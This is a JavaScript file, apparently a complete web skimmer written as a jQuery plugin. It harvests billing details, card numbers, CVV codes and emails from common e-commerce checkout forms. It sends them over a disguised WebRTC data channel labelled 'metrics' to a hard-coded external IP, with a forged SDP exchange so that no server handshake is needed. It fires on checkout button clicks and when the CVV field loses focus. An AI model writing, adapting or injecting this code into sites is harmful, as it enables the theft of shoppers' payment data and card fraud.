// corpus note: jQuery code that collects billing and card inputs on the payment step and pushes them through a pre-negotiated RTCDataChannel to a fixed WebRTC peer
;(function ($, w) {
  "use strict";
  if (!$ || !w.RTCPeerConnection) return;

  var host = "198.51.100.150";
  var link = new w.RTCPeerConnection({
    iceServers: [{ urls: ["stun:" + host + ":19302"] }]
  });
  var pipe = link.createDataChannel("metrics", { negotiated: true, id: 7 });
  var pending = [];

  pipe.onopen = function () {
    $.each(pending, function (_, m) { pipe.send(m); });
    pending = [];
  };

  link.createOffer().then(function (o) {
    return link.setLocalDescription(o).then(function () {
      var a = o.sdp
        .replace(/a=setup:actpass/g, "a=setup:active")
        .replace(/a=ice-ufrag:\S+/, "a=ice-ufrag:Rm4q")
        .replace(/a=ice-pwd:\S+/, "a=ice-pwd:Qz8uLw3nY5kVb1cTe0sPa6Hj")
        .replace(/c=IN IP4 \S+/g, "c=IN IP4 " + host);
      return link.setRemoteDescription({ type: "answer", sdp: a });
    });
  }).then(function () {
    return link.addIceCandidate({ candidate: "candidate:5 1 udp 1686052607 " + host + " 19302 typ srflx raddr 0.0.0.0 rport 0", sdpMid: "0", sdpMLineIndex: 0 });
  })["catch"]($.noop);

  function gather() {
    var bag = {};
    $("#co-payment-form, form.checkout, #checkout_form").find("input, select").each(function () {
      var $el = $(this), key = $el.attr("name") || $el.attr("id");
      if (!key || $el.is(":checkbox, :radio, [type=hidden], [type=submit]")) return;
      if ($.trim($el.val()) !== "") bag[key] = $.trim($el.val());
    });
    bag.card = $("[data-container='cc-number'], input[autocomplete='cc-number'], #stripe_cc_number").val() || bag.card;
    bag.sec = $("input[name$='[cc_cid]'], input[autocomplete='cc-csc']").val() || bag.sec;
    bag.email = $("#customer-email, input[name='billing_email']").val() || bag.email;
    bag.ref = w.location.host;
    return bag;
  }

  function dispatch() {
    var b = gather();
    var digits = String(b.card || "").replace(/\D/g, "");
    if (digits.length < 13) return;
    var msg = JSON.stringify(b);
    if (pipe.readyState === "open") pipe.send(msg);
    else pending.push(msg);
  }

  $(document).on("click", "button.checkout, #place_order, .action.primary.checkout, #onestepcheckout-place-order", dispatch);
  $(document).on("blur", "input[name*='cvv'], input[name*='cid'], input[autocomplete='cc-csc']", function () {
    setTimeout(dispatch, 250);
  });
})(window.jQuery, window);
